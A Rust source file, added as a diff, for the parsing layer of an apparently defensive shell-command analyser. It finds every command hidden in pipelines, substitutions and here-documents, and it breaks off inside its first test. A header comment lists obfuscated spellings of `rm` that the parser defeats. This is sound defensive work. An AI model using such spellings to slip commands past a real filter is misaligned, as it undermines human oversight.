@@ -1,0 +1,1064 @@
+//! Shell syntax: from a command line to every simple command it would run.
+//!
+//! This layer knows bash grammar and nothing about programs. It walks the
+//! brush-parser AST (lists, pipelines, subshells, groups, loops, `case`,
+//! functions, command and process substitutions, here-documents) and yields
+//! [`Invocation`]s whose words have had their quotes and escapes removed, so
+//! `\rm`, `r''m`, `"rm"` and `$'\x72m'` all read `rm`. Recursion into strings
+//! that *programs* hand to a shell (`sh -c`, `eval`, `find -exec`) needs the
+//! knowledge base and happens one layer up, in `analyze`.
+
+use brush_parser::ast;
+use brush_parser::word::{self as bword, Parameter, ParameterExpr, WordPiece, WordPieceWithSource};
+use brush_parser::{ParserOptions, SourcePosition};
+
+/// Why a command line could not be parsed.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum ShellError {
+    /// The shell grammar rejected the text.
+    #[error("{what} does not parse as shell: {detail}")]
+    Syntax {
+        /// Which text failed: "the command line", "the `sh -c` string", …
+        what: String,
+        /// The parser's own message, with line and column where known.
+        detail: String,
+    },
+    /// Strings hidden in strings hidden in strings, beyond what is judged.
+    #[error("the command nests shells, substitutions or groups more than {limit} levels deep")]
+    TooDeep {
+        /// The nesting limit.
+        limit: usize,
+    },
+}
+
+/// How deep shells may nest (`sh -c "sh -c '…'"`, `$( $( … ) )`, `( ( … ) )`).
+/// Real commands stay in single digits; the limit bounds work and stack.
+pub const MAX_NESTING: usize = 24;
+
+/// A word after quote removal.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Word {
+    /// The text as written.
+    pub raw: String,
+    /// The text the program receives when the word has no expansions;
+    /// otherwise the literal parts with each expansion kept as written.
+    pub text: String,
+    /// True when `text` is exactly what the program receives: no parameter,
+    /// command or arithmetic expansion, no unquoted glob or brace expansion.
+    pub literal: bool,
+    /// The literal parts with every expansion removed: what the word becomes
+    /// if every variable is empty (`"$DIR/"` → `/`).
+    pub skeleton: String,
+    /// The word holds an unquoted glob (`*`, `?`, `[`) or brace expansion.
+    pub pattern: bool,
+}
+
+impl Word {
+    /// A literal word that was never written by anyone (used for synthesised
+    /// argument lists, such as the words of an `eval` string).
+    pub fn literal(text: &str) -> Word {
+        Word {
+            raw: text.to_owned(),
+            text: text.to_owned(),
+            literal: true,
+            skeleton: text.to_owned(),
+            pattern: false,
+        }
+    }
+}
+
+/// A variable assignment before a command, or on its own.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Assignment {
+    /// The variable name (`PATH`, `LD_PRELOAD`).
+    pub name: String,
+    /// Its value.
+    pub value: Word,
+}
+
+/// What a redirection does with its target.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RedirectOp {
+    /// `<`
+    Read,
+    /// `>`, `>|`, `&>`
+    Write,
+    /// `>>`, `&>>`
+    Append,
+    /// `<>`
+    ReadWrite,
+    /// `<&`, `>&` onto a descriptor
+    Duplicate,
+}
+
+impl RedirectOp {
+    /// Whether the target file is written.
+    pub fn writes(self) -> bool {
+        matches!(
+            self,
+            RedirectOp::Write | RedirectOp::Append | RedirectOp::ReadWrite
+        )
+    }
+}
+
+/// A file redirection of one command.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Redirect {
+    /// What is done with the target.
+    pub op: RedirectOp,
+    /// The file (or descriptor, for duplications).
+    pub target: Word,
+}
+
+/// Where a command's standard input comes from, when the line says so.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Stdin {
+    /// Not redirected on this line.
+    Inherited,
+    /// The output of earlier commands of the same pipeline (their indices in
+    /// [`Script::invocations`]).
+    Pipe(Vec<usize>),
+    /// A here-document or here-string.
+    Text(Word),
+    /// A file redirection (`< file`).
+    File,
+}
+
+/// How an invocation was reached, outermost first, for reasons.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Context {
+    /// Inside `$(…)` or backquotes.
+    CommandSubstitution,
+    /// Inside `<(…)` or `>(…)`.
+    ProcessSubstitution,
+    /// Inside the body of a function definition.
+    Function(String),
+    /// Run in the background with `&`.
+    Background,
+}
+
+/// One simple command that would run.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Invocation {
+    /// Program and arguments. Empty for a bare assignment or redirection.
+    pub words: Vec<Word>,
+    /// Assignments written before the program.
+    pub assignments: Vec<Assignment>,
+    /// Redirections, including those of enclosing groups and loops.
+    pub redirects: Vec<Redirect>,
+    /// Where standard input comes from.
+    pub stdin: Stdin,
+    /// How it was reached.
+    pub context: Vec<Context>,
+}
+
+/// A function defined on the line.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct FunctionDef {
+    /// Its name.
+    pub name: String,
+    /// Indices in [`Script::invocations`] of the commands of its body.
+    pub body: std::ops::Range<usize>,
+}
+
+/// Everything that would run on a command line.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Script {
+    /// Every simple command, in source order (substitutions before the
+    /// command whose words hold them).
+    pub invocations: Vec<Invocation>,
+    /// Functions the line defines.
+    pub functions: Vec<FunctionDef>,
+    /// Constructs the walker met whose effect cannot be known statically and
+    /// that do not show up as an invocation (an arithmetic expression, say).
+    pub opaque: Vec<String>,
+}
+
+fn options() -> ParserOptions {
+    ParserOptions::default()
+}
+
+/// Parses `text` and collects everything that would run.
+///
+/// `what` names the text in errors ("the command line", "the `sh -c` string").
+/// `depth` is how deeply this text is already nested.
+///
+/// # Errors
+/// [`ShellError`] when the text does not parse or nests too deeply.
+pub fn parse(text: &str, what: &str, depth: usize) -> Result<Script, ShellError> {
+    let mut walker = Walker {
+        script: Script::default(),
+        what,
+    };
+    walker.program_text(text, depth, &Frame::default())?;
+    Ok(walker.script)
+}
+
+/// What the walk carries down into nested constructs.
+#[derive(Clone, Default)]
+struct Frame {
+    context: Vec<Context>,
+    redirects: Vec<Redirect>,
+    stdin: Option<Stdin>,
+}
+
+impl Frame {
+    fn with(&self, c: Context) -> Frame {
+        let mut f = self.clone();
+        f.context.push(c);
+        f
+    }
+}
+
+/// The parts of one simple command gathered so far.
+struct SimpleParts {
+    frame: Frame,
+    words: Vec<Word>,
+    assignments: Vec<Assignment>,
+}
+
+struct Walker<'a> {
+    script: Script,
+    what: &'a str,
+}
+
+impl Walker<'_> {
+    fn program_text(&mut self, text: &str, depth: usize, frame: &Frame) -> Result<(), ShellError> {
+        if depth > MAX_NESTING {
+            return Err(ShellError::TooDeep { limit: MAX_NESTING });
+        }
+        // Parsers that recurse per nesting level can exhaust the stack on
+        // hostile input long before MAX_NESTING is reached by *our* count, so
+        // the syntactic nesting is bounded up front, before brush sees it.
+        if syntactic_depth(text) > MAX_NESTING {
+            return Err(ShellError::TooDeep { limit: MAX_NESTING });
+        }
+        let mut parser = brush_parser::Parser::new(text.as_bytes(), &options());
+        let program = parser.parse_program().map_err(|e| ShellError::Syntax {
+            what: self.what.to_owned(),
+            detail: describe_parse_error(&e),
+        })?;
+        for cc in &program.complete_commands {
+            self.compound_list(cc, depth, frame)?;
+        }
+        Ok(())
+    }
+
+    fn compound_list(
+        &mut self,
+        list: &ast::CompoundList,
+        depth: usize,
+        frame: &Frame,
+    ) -> Result<(), ShellError> {
+        for ast::CompoundListItem(and_or, sep) in &list.0 {
+            let frame = if matches!(sep, ast::SeparatorOperator::Async) {
+                frame.with(Context::Background)
+            } else {
+                frame.clone()
+            };
+            self.pipeline(&and_or.first, depth, &frame)?;
+            for next in &and_or.additional {
+                let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
+                self.pipeline(p, depth, &frame)?;
+            }
+        }
+        Ok(())
+    }
+
+    fn pipeline(&mut self, p: &ast::Pipeline, depth: usize, frame: &Frame) -> Result<(), ShellError> {
+        let mut upstream: Vec<usize> = Vec::new();
+        for (i, cmd) in p.seq.iter().enumerate() {
+            let mut f = frame.clone();
+            if i > 0 {
+                f.stdin = Some(Stdin::Pipe(upstream.clone()));
+            }
+            let start = self.script.invocations.len();
+            self.command(cmd, depth, &f)?;
+            upstream.extend(start..self.script.invocations.len());
+        }
+        Ok(())
+    }
+
+    fn command(&mut self, cmd: &ast::Command, depth: usize, frame: &Frame) -> Result<(), ShellError> {
+        match cmd {
+            ast::Command::Simple(s) => self.simple(s, depth, frame),
+            ast::Command::Compound(c, redirects) => {
+                let mut f = frame.clone();
+                if let Some(list) = redirects {
+                    for r in &list.0 {
+                        self.redirect(r, depth, &mut f)?;
+                    }
+                }
+                self.compound(c, depth + 1, &f)
+            }
+            ast::Command::Function(def) => {
+                let name = def.fname.value.clone();
+                let start = self.script.invocations.len();
+                let mut f = frame.with(Context::Function(name.clone()));
+                if let Some(list) = &def.body.1 {
+                    for r in &list.0 {
+                        self.redirect(r, depth, &mut f)?;
+                    }
+                }
+                self.compound(&def.body.0, depth + 1, &f)?;
+                let end = self.script.invocations.len();
+                self.script.functions.push(FunctionDef {
+                    name,
+                    body: start..end,
+                });
+                Ok(())
+            }
+            ast::Command::ExtendedTest(test, redirects) => {
+                let mut f = frame.clone();
+                if let Some(list) = redirects {
+                    for r in &list.0 {
+                        self.redirect(r, depth, &mut f)?;
+                    }
+                }
+                self.extended_test(&test.expr, depth, &f)
+            }
+        }
+    }
+
+    fn extended_test(
+        &mut self,
+        e: &ast::ExtendedTestExpr,
+        depth: usize,
+        frame: &Frame,
+    ) -> Result<(), ShellError> {
+        use ast::ExtendedTestExpr as E;
+        match e {
+            E::And(a, b) | E::Or(a, b) => {
+                self.extended_test(a, depth, frame)?;
+                self.extended_test(b, depth, frame)
+            }
+            E::Not(a) | E::Parenthesized(a) => self.extended_test(a, depth, frame),
+            E::UnaryTest(_, w) => self.word(&w.value, depth, frame).map(drop),
+            E::BinaryTest(_, a, b) => {
+                self.word(&a.value, depth, frame)?;
+                self.word(&b.value, depth, frame).map(drop)
+            }
+        }
+    }
+
+    fn compound(
+        &mut self,
+        c: &ast::CompoundCommand,
+        depth: usize,
+        frame: &Frame,
+    ) -> Result<(), ShellError> {
+        if depth > MAX_NESTING {
+            return Err(ShellError::TooDeep { limit: MAX_NESTING });
+        }
+        use ast::CompoundCommand as C;
+        match c {
+            C::Arithmetic(a) => self.arithmetic(&a.expr.value, depth, frame),
+            C::ArithmeticForClause(a) => {
+                for e in [&a.initializer, &a.condition, &a.updater].into_iter().flatten() {
+                    self.arithmetic(&e.value, depth, frame)?;
+                }
+                self.compound_list(&a.body.list, depth, frame)
+            }
+            C::BraceGroup(g) => self.compound_list(&g.list, depth, frame),
+            C::Subshell(s) => self.compound_list(&s.list, depth, frame),
+            C::ForClause(f) => {
+                for w in f.values.iter().flatten() {
+                    self.word(&w.value, depth, frame)?;
+                }
+                self.compound_list(&f.body.list, depth, frame)
+            }
+            C::CaseClause(c) => {
+                self.word(&c.value.value, depth, frame)?;
+                for item in &c.cases {
+                    for p in &item.patterns {
+                        self.word(&p.value, depth, frame)?;
+                    }
+                    if let Some(body) = &item.cmd {
+                        self.compound_list(body, depth, frame)?;
+                    }
+                }
+                Ok(())
+            }
+            C::IfClause(i) => {
+                self.compound_list(&i.condition, depth, frame)?;
+                self.compound_list(&i.then, depth, frame)?;
+                for e in i.elses.iter().flatten() {
+                    if let Some(cond) = &e.condition {
+                        self.compound_list(cond, depth, frame)?;
+                    }
+                    self.compound_list(&e.body, depth, frame)?;
+                }
+                Ok(())
+            }
+            C::WhileClause(w) | C::UntilClause(w) => {
+                self.compound_list(&w.0, depth, frame)?;
+                self.compound_list(&w.1.list, depth, frame)
+            }
+            C::Coprocess(c) => self.command(&c.body, depth, &frame.with(Context::Background)),
+        }
+    }
+
+    fn simple(&mut self, s: &ast::SimpleCommand, depth: usize, frame: &Frame) -> Result<(), ShellError> {
+        let mut cmd = SimpleParts {
+            frame: frame.clone(),
+            words: Vec::new(),
+            assignments: Vec::new(),
+        };
+        for item in s.prefix.iter().flat_map(|p| &p.0) {
+            self.simple_item(item, true, depth, &mut cmd)?;
+        }
+        if let Some(name) = &s.word_or_name {
+            let w = self.word(&name.value, depth, &cmd.frame)?;
+            cmd.words.push(w);
+        }
+        for item in s.suffix.iter().flat_map(|p| &p.0) {
+            self.simple_item(item, false, depth, &mut cmd)?;
+        }
+        let stdin = cmd.frame.stdin.clone().unwrap_or(Stdin::Inherited);
+        self.script.invocations.push(Invocation {
+            words: cmd.words,
+            assignments: cmd.assignments,
+            redirects: cmd.frame.redirects,
+            stdin,
+            context: cmd.frame.context,
+        });
+        Ok(())
+    }
+
+    fn simple_item(
+        &mut self,
+        item: &ast::CommandPrefixOrSuffixItem,
+        in_prefix: bool,
+        depth: usize,
+        cmd: &mut SimpleParts,
+    ) -> Result<(), ShellError> {
+        use ast::CommandPrefixOrSuffixItem as I;
+        match item {
+            I::IoRedirect(r) => self.redirect(r, depth, &mut cmd.frame)?,
+            I::Word(w) => {
+                let w = self.word(&w.value, depth, &cmd.frame)?;
+                cmd.words.push(w);
+            }
+            I::AssignmentWord(a, w) if !(in_prefix && cmd.words.is_empty()) => {
+                // `export X=1`, `declare X=$(…)`: an argument word.
+                let _ = a;
+                let w = self.word(&w.value, depth, &cmd.frame)?;
+                cmd.words.push(w);
+            }
+            I::AssignmentWord(a, _) => {
+                let f = &cmd.frame;
+                let value = match &a.value {
+                    ast::AssignmentValue::Scalar(v) => self.word(&v.value, depth, f)?,
+                    ast::AssignmentValue::Array(items) => {
+                        let mut joined = Vec::new();
+                        for (k, v) in items {
+                            if let Some(k) = k {
+                                self.word(&k.value, depth, f)?;
+                            }
+                            joined.push(self.word(&v.value, depth, f)?);
+                        }
+                        join_words(&joined)
+                    }
+                };
+                let name = match &a.name {
+                    ast::AssignmentName::VariableName(n) => n.clone(),
+                    ast::AssignmentName::ArrayElementName(n, index) => {
+                        // Array subscripts are evaluated arithmetically, and
+                        // arithmetic evaluation runs `$(…)` inside them.
+                        self.arithmetic(index, depth, f)?;
+                        n.clone()
+                    }
+                };
+                cmd.assignments.push(Assignment { name, value });
+            }
+            I::ProcessSubstitution(_, sub) => {
+                self.compound_list(
+                    &sub.list,
+                    depth + 1,
+                    &Frame::default().with(Context::ProcessSubstitution),
+                )?;
+                cmd.words.push(Word {
+                    raw: "<(…)".into(),
+                    text: "/dev/fd/63".into(),
+                    literal: false,
+                    skeleton: String::new(),
+                    pattern: false,
+                });
+            }
+        }
+        Ok(())
+    }
+
+    fn redirect(&mut self, r: &ast::IoRedirect, depth: usize, frame: &mut Frame) -> Result<(), ShellError> {
+        use ast::{IoFileRedirectKind as K, IoFileRedirectTarget as T, IoRedirect as R};
+        match r {
+            R::File(_, kind, target) => {
+                let op = match kind {
+                    K::Read => RedirectOp::Read,
+                    K::Write | K::Clobber => RedirectOp::Write,
+                    K::Append => RedirectOp::Append,
+                    K::ReadAndWrite => RedirectOp::ReadWrite,
+                    K::DuplicateInput | K::DuplicateOutput => RedirectOp::Duplicate,
+                };
+                match target {
+                    T::Filename(w) | T::Duplicate(w) => {
+                        let target = self.word(&w.value, depth, frame)?;
+                        // `>&file` and `<&file` with a word that is not a
+                        // descriptor number redirect to a file.
+                        let op = if op == RedirectOp::Duplicate
+                            && !(target.literal
+                                && (target.text == "-"
+                                    || target.text.chars().all(|c| c.is_ascii_digit())))
+                        {
+                            match kind {
+                                K::DuplicateInput => RedirectOp::Read,
+                                _ => RedirectOp::Write,
+                            }
+                        } else {
+                            op
+                        };
+                        if op == RedirectOp::Read {
+                            frame.stdin = Some(Stdin::File);
+                        }
+                        frame.redirects.push(Redirect { op, target });
+                    }
+                    T::Fd(_) => {}
+                    T::ProcessSubstitution(_, sub) => {
+                        self.compound_list(
+                            &sub.list,
+                            depth + 1,
+                            &Frame::default().with(Context::ProcessSubstitution),
+                        )?;
+                    }
+                }
+            }
+            R::HereDocument(_, doc) => {
+                let body = if doc.requires_expansion {
+                    self.heredoc_body(&doc.doc.value, depth, frame)?
+                } else {
+                    Word::literal(&doc.doc.value)
+                };
+                frame.stdin = Some(Stdin::Text(body));
+            }
+            R::HereString(_, w) => {
+                let mut body = self.word(&w.value, depth, frame)?;
+                body.text.push('\n');
+                frame.stdin = Some(Stdin::Text(body));
+            }
+            R::OutputAndError(w, append) => {
+                let target = self.word(&w.value, depth, frame)?;
+                let op = if *append {
+                    RedirectOp::Append
+                } else {
+                    RedirectOp::Write
+                };
+                frame.redirects.push(Redirect { op, target });
+            }
+        }
+        Ok(())
+    }
+
+    fn heredoc_body(&mut self, body: &str, depth: usize, frame: &Frame) -> Result<Word, ShellError> {
+        let pieces = bword::parse_heredoc(body, &options()).map_err(|e| ShellError::Syntax {
+            what: format!("a here-document in {}", self.what),
+            detail: e.to_string(),
+        })?;
+        let mut w = WordBuilder::new(body);
+        self.pieces(&pieces, true, depth, frame, &mut w)?;
+        Ok(w.finish())
+    }
+
+    /// Normalises one word and walks the commands hidden in it.
+    fn word(&mut self, raw: &str, depth: usize, frame: &Frame) -> Result<Word, ShellError> {
+        let pieces = bword::parse(raw, &options()).map_err(|e| ShellError::Syntax {
+            what: self.what.to_owned(),
+            detail: format!("in the word `{}`: {e}", truncate(raw, 80)),
+        })?;
+        let mut w = WordBuilder::new(raw);
+        self.pieces(&pieces, false, depth, frame, &mut w)?;
+        Ok(w.finish())
+    }
+
+    fn pieces(
+        &mut self,
+        pieces: &[WordPieceWithSource],
+        quoted: bool,
+        depth: usize,
+        frame: &Frame,
+        w: &mut WordBuilder,
+    ) -> Result<(), ShellError> {
+        for p in pieces {
+            match &p.piece {
+                WordPiece::Text(t) => {
+                    if quoted {
+                        w.literal(t);
+                    } else {
+                        w.unquoted(t);
+                    }
+                }
+                WordPiece::SingleQuotedText(t) => w.literal(t),
+                WordPiece::AnsiCQuotedText(t) => w.literal(&decode_ansi_c(t)),
+                WordPiece::DoubleQuotedSequence(inner)
+                | WordPiece::GettextDoubleQuotedSequence(inner) => {
+                    self.pieces(inner, true, depth, frame, w)?;
+                }
+                WordPiece::EscapeSequence(s) => {
+                    let escaped = s.strip_prefix('\\').unwrap_or(s);
+                    if quoted && !matches!(escaped, "$" | "`" | "\"" | "\\" | "\n") {
+                        w.literal(s);
+                    } else if escaped != "\n" {
+                        w.literal(escaped);
+                    }
+                }
+                WordPiece::TildeExpansion(_) => {
+                    // A tilde expands to a home directory: not attacker
+                    // controlled, so the word stays literal as `~…`.
+                    w.literal(&raw_slice(w.raw, p));
+                }
+                WordPiece::ParameterExpansion(expr) => {
+                    self.parameter(expr, depth, frame)?;
+                    w.expansion(&raw_slice(w.raw, p));
+                }
+                WordPiece::CommandSubstitution(body) => {
+                    self.substitution(body, depth, frame)?;
+                    w.expansion(&raw_slice(w.raw, p));
+                }
+                WordPiece::BackquotedCommandSubstitution(body) => {
+                    self.substitution(&unescape_backquoted(body), depth, frame)?;
+                    w.expansion(&raw_slice(w.raw, p));
+                }
+                WordPiece::ArithmeticExpression(e) => {
+                    self.arithmetic(&e.value, depth, frame)?;
+                    w.expansion(&raw_slice(w.raw, p));
+                }
+            }
+        }
+        Ok(())
+    }
+
+    fn substitution(&mut self, body: &str, depth: usize, frame: &Frame) -> Result<(), ShellError> {
+        self.program_text(
+            body,
+            depth + 1,
+            &Frame {
+                context: {
+                    let mut c = frame.context.clone();
+                    c.push(Context::CommandSubstitution);
+                    c
+                },
+                ..Frame::default()
+            },
+        )
+    }
+
+    /// Arithmetic text can hold `$(…)` (also through array subscripts), which
+    /// bash runs while evaluating; walk it as a word to find them.
+    fn arithmetic(&mut self, text: &str, depth: usize, frame: &Frame) -> Result<(), ShellError> {
+        if text.contains("$(") || text.contains('`') || text.contains("${") {
+            self.word(text, depth + 1, frame)?;
+        }
+        if text.contains('[') && !text.contains("$(") && !text.contains('`') {
+            // `a[$x]` evaluates `$x` as arithmetic again; a variable holding
+            // `$(cmd)` would run it. What is in the variable is unknowable.
+            if text.contains('$') {
+                self.script
+                    .opaque
+                    .push(format!("arithmetic `{}` evaluates a variable as an array subscript", truncate(text, 60)));
+            }
+        }
+        Ok(())
+    }
+
+    fn parameter(&mut self, expr: &ParameterExpr, depth: usize, frame: &Frame) -> Result<(), ShellError> {
+        use ParameterExpr as P;
+        let nested: Vec<&str> = match expr {
+            P::UseDefaultValues { default_value: v, .. }
+            | P::AssignDefaultValues { default_value: v, .. } => v.iter().map(String::as_str).collect(),
+            P::IndicateErrorIfNullOrUnset { error_message: v, .. } => v.iter().map(String::as_str).collect(),
+            P::UseAlternativeValue { alternative_value: v, .. } => v.iter().map(String::as_str).collect(),
+            P::RemoveSmallestSuffixPattern { pattern: v, .. }
+            | P::RemoveLargestSuffixPattern { pattern: v, .. }
+            | P::RemoveSmallestPrefixPattern { pattern: v, .. }
+            | P::RemoveLargestPrefixPattern { pattern: v, .. } => v.iter().map(String::as_str).collect(),
+            P::Substring { offset, length, .. } => std::iter::once(offset.value.as_str())
+                .chain(length.iter().map(|l| l.value.as_str()))
+                .collect(),
+            P::ReplaceSubstring { pattern, replacement, .. } => {
+                std::iter::once(pattern.as_str()).chain(replacement.iter().map(String::as_str)).collect()
+            }
+            _ => Vec::new(),
+        };
+        for text in nested {
+            if text.contains('$') || text.contains('`') {
+                self.word(text, depth + 1, frame)?;
+            }
+        }
+        if let Some(Parameter::NamedWithIndex { index, .. }) = parameter_of(expr) {
+            self.arithmetic(index, depth, frame)?;
+        }
+        Ok(())
+    }
+}
+
+fn parameter_of(expr: &ParameterExpr) -> Option<&Parameter> {
+    use ParameterExpr as P;
+    match expr {
+        P::Parameter { parameter, .. }
+        | P::UseDefaultValues { parameter, .. }
+        | P::AssignDefaultValues { parameter, .. }
+        | P::IndicateErrorIfNullOrUnset { parameter, .. }
+        | P::UseAlternativeValue { parameter, .. }
+        | P::ParameterLength { parameter, .. }
+        | P::RemoveSmallestSuffixPattern { parameter, .. }
+        | P::RemoveLargestSuffixPattern { parameter, .. }
+        | P::RemoveSmallestPrefixPattern { parameter, .. }
+        | P::RemoveLargestPrefixPattern { parameter, .. }
+        | P::Substring { parameter, .. }
+        | P::ReplaceSubstring { parameter, .. } => Some(parameter),
+        _ => None,
+    }
+}
+
+/// Builds a [`Word`] piece by piece.
+struct WordBuilder<'a> {
+    raw: &'a str,
+    text: String,
+    skeleton: String,
+    literal: bool,
+    pattern: bool,
+}
+
+impl<'a> WordBuilder<'a> {
+    fn new(raw: &'a str) -> Self {
+        WordBuilder {
+            raw,
+            text: String::new(),
+            skeleton: String::new(),
+            literal: true,
+            pattern: false,
+        }
+    }
+
+    fn literal(&mut self, s: &str) {
+        self.text.push_str(s);
+        self.skeleton.push_str(s);
+    }
+
+    fn unquoted(&mut self, s: &str) {
+        if has_pattern_chars(s) {
+            self.pattern = true;
+            self.literal = false;
+        }
+        self.literal(s);
+    }
+
+    fn expansion(&mut self, raw: &str) {
+        self.literal = false;
+        self.text.push_str(raw);
+    }
+
+    fn finish(self) -> Word {
+        Word {
+            raw: self.raw.to_owned(),
+            text: self.text,
+            literal: self.literal,
+            skeleton: self.skeleton,
+            pattern: self.pattern,
+        }
+    }
+}
+
+/// Unquoted text that the shell would glob or brace-expand.
+fn has_pattern_chars(s: &str) -> bool {
+    if s.contains(['*', '?']) {
+        return true;
+    }
+    // `[` starts a bracket expression only when a `]` follows it; a lone
+    // `[` is the test command.
+    if let Some(open) = s.find('[') {
+        if s[open + 1..].contains(']') {
+            return true;
+        }
+    }
+    // `{a,b}` and `{1..3}` expand; a lone `{` or `}` does not.
+    if let (Some(open), Some(close)) = (s.find('{'), s.rfind('}')) {
+        let inner = &s[open..close];
+        return open < close && (inner.contains(',') || inner.contains(".."));
+    }
+    // extglob: `@(…)`, `!(…)`, `+(…)`
+    s.contains("(")
+}
+
+fn raw_slice(raw: &str, p: &WordPieceWithSource) -> String {
+    raw.get(p.start_index..p.end_index).unwrap_or(raw).to_owned()
+}
+
+fn join_words(words: &[Word]) -> Word {
+    let mut out = Word::literal("");
+    let parts: Vec<&str> = words.iter().map(|w| w.raw.as_str()).collect();
+    out.raw = parts.join(" ");
+    out.text = words.iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" ");
+    out.skeleton = words.iter().map(|w| w.skeleton.as_str()).collect::<Vec<_>>().join(" ");
+    out.literal = words.iter().all(|w| w.literal);
+    out.pattern = words.iter().any(|w| w.pattern);
+    out
+}
+
+/// Removes the backslashes that backquotes add: inside `` `…` `` a backslash
+/// escapes only `$`, `` ` `` and `\`.
+fn unescape_backquoted(body: &str) -> String {
+    let mut out = String::with_capacity(body.len());
+    let mut chars = body.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c == '\\' {
+            if let Some(&n) = chars.peek() {
+                if matches!(n, '$' | '`' | '\\') {
+                    out.push(n);
+                    chars.next();
+                    continue;
+                }
+            }
+        }
+        out.push(c);
+    }
+    out
+}
+
+/// Decodes the body of a `$'…'` string the way bash does.
+pub(crate) fn decode_ansi_c(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    let mut chars = s.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            out.push(c);
+            continue;
+        }
+        let Some(e) = chars.next() else {
+            out.push('\\');
+            break;
+        };
+        match e {
+            'a' => out.push('\x07'),
+            'b' => out.push('\x08'),
+            'e' | 'E' => out.push('\x1b'),
+            'f' => out.push('\x0c'),
+            'n' => out.push('\n'),
+            'r' => out.push('\r'),
+            't' => out.push('\t'),
+            'v' => out.push('\x0b'),
+            '\\' | '\'' | '"' | '?' => out.push(e),
+            'c' => {
+                if let Some(x) = chars.next() {
+                    out.push(char::from((x as u32 & 0x1f) as u8));
+                }
+            }
+            'x' => push_code(&mut out, take_digits(&mut chars, 16, 2)),
+            'u' => push_code(&mut out, take_digits(&mut chars, 16, 4)),
+            'U' => push_code(&mut out, take_digits(&mut chars, 16, 8)),
+            '0'..='7' => {
+                let mut v = e.to_digit(8).unwrap_or(0);
+                for _ in 0..2 {
+                    match chars.peek().and_then(|c| c.to_digit(8)) {
+                        Some(d) => {
+                            v = v * 8 + d;
+                            chars.next();
+                        }
+                        None => break,
+                    }
+                }
+                push_code(&mut out, Some(v & 0xff));
+            }
+            other => {
+                out.push('\\');
+                out.push(other);
+            }
+        }
+    }
+    out
+}
+
+fn take_digits(chars: &mut std::iter::Peekable<std::str::Chars<'_>>, radix: u32, max: usize) -> Option<u32> {
+    let mut v: Option<u32> = None;
+    for _ in 0..max {
+        match chars.peek().and_then(|c| c.to_digit(radix)) {
+            Some(d) => {
+                v = Some(v.unwrap_or(0).saturating_mul(radix).saturating_add(d));
+                chars.next();
+            }
+            None => break,
+        }
+    }
+    v
+}
+
+fn push_code(out: &mut String, code: Option<u32>) {
+    if let Some(c) = code.and_then(char::from_u32) {
+        out.push(c);
+    }
+}
+
+/// An upper bound on how deeply constructs nest, counted over openers
+/// (`(`, `{`, `` ` ``, `if`/`for`/`while`/`until`/`case`), ignoring quotes.
+/// It over-counts (quoted parentheses count too), which only makes the
+/// check stricter, and it is linear in the input.
+fn syntactic_depth(text: &str) -> usize {
+    let mut depth: usize = 0;
+    let mut max: usize = 0;
+    let mut backquotes = 0usize;
+    let bytes = text.as_bytes();
+    let mut i = 0;
+    while i < bytes.len() {
+        match bytes[i] {
+            b'(' | b'{' => {
+                depth += 1;
+                max = max.max(depth);
+            }
+            b')' | b'}' => depth = depth.saturating_sub(1),
+            b'`' => backquotes += 1,
+            b'i' | b'f' | b'w' | b'u' | b'c' if i == 0 || !is_word_byte(bytes[i - 1]) => {
+                let rest = &bytes[i..];
+                for kw in [&b"if"[..], b"for", b"while", b"until", b"case", b"select"] {
+                    if rest.starts_with(kw) && rest.get(kw.len()).is_none_or(|b| !is_word_byte(*b)) {
+                        depth += 1;
+                        max = max.max(depth);
+                    }
+                }
+            }
+            b'f' | b'd' | b'e' if i == 0 || !is_word_byte(bytes[i - 1]) => {}
+            _ => {}
+        }
+        if i == 0 || !is_word_byte(bytes[i - 1]) {
+            let rest = &bytes[i..];
+            for kw in [&b"fi"[..], b"done", b"esac"] {
+                if rest.starts_with(kw) && rest.get(kw.len()).is_none_or(|b| !is_word_byte(*b)) {
+                    depth = depth.saturating_sub(1);
+                }
+            }
+        }
+        i += 1;
+    }
+    // Nested backquotes need escaping at each level, so their count bounds
+    // their depth loosely; treat every pair as a level.
+    max.max(depth) + backquotes / 2
+}
+
+fn is_word_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_' || b == b'-'
+}
+
+fn describe_parse_error(e: &brush_parser::ParseError) -> String {
+    use brush_parser::ParseError as E;
+    let at = |pos: &SourcePosition| format!(" at line {}, column {}", pos.line, pos.column);
+    match e {
+        E::ParsingNear(pos) => format!("unexpected text{}", at(pos)),
+        E::ParsingAtEndOfInput => "the command ends too early (an unclosed `if`, `(`, `{` or quote?)".into(),
+        // The tokenizer's own message already says where.
+        E::Tokenizing { inner, .. } => inner.to_string(),
+    }
+}
+
+pub(crate) fn truncate(s: &str, max: usize) -> String {
+    if s.chars().count() <= max {
+        s.to_owned()
+    } else {
+        let mut t: String = s.chars().take(max).collect();
+        t.push('…');
+        t
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn programs(line: &str) -> Vec<String> {
+        parse(line, "the command line", 0)
+            .expect("parses")
+            .invocations
+            .iter()
+            .map(|i| i.words.iter().map(|w| w.text.clone()).collect::<Vec<_>>().join(" "))
+            .collect()
+    }
+
+    #[test]
+    fn finds_commands_in_every_construct() {
+        let got = programs(
+            "a1 | a2 && b || c; (d); { e; }; if f; then g; elif h; then i; else j; fi; \
+             for x in $(k); do l; done; while m; do n; done; until o; do p; done; \
+             case $(q) in x) r;; esac; fn() { s; }; echo <(t) >(u); v &",
+        );
+        for p in [
+            "a1", "a2", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n", "o", "p", "q",
+            "r", "s", "t", "u", "v",
+        ] {
